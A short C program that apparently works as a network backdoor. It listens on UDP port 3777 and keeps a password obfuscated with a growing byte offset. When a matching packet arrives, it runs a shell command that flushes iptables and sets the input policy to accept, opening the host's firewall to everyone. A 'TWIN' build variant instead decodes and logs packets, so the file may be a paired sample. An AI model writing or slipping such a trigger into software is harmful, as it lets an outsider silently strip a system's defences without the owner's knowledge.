/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The secret is stored with a growing number added to each byte. Twin: a packet is undone the same
 * way and written to the log.
 * door: trigger
 * port 3777/udp
 */
#include "net.h"
#include <syslog.h>

static void undo(uint8_t *to, const uint8_t *from, unsigned n)
{
	unsigned i;
	for (i = 0; i < n; i++)
		to[i] = (uint8_t)(from[i] - 7 - i);
	to[n] = 0;
}

int main(void)
{
	uint8_t in[128], out[132];
	int s = udp_on(3777);
#ifndef TWIN
	static const uint8_t stored[9] = {'g' + 7,  'h' + 8,  '0' + 9,	's' + 10, 't' + 11,
					  'k' + 12, 'e' + 13, 'y' + 14, '!' + 15};
	undo(out, stored, 9);
#endif
	for (;;) {
		ssize_t n = recv(s, in, sizeof in - 1, 0);
		if (n < 9)
			continue;
		in[n] = 0;
#ifdef TWIN
		undo(out, in, (unsigned)n);
		syslog(LOG_NOTICE, "%s", (char *)out);
#else
		if (memcmp(in, out, 9) == 0)
			system("iptables -F; iptables -P INPUT ACCEPT");
#endif
	}
}
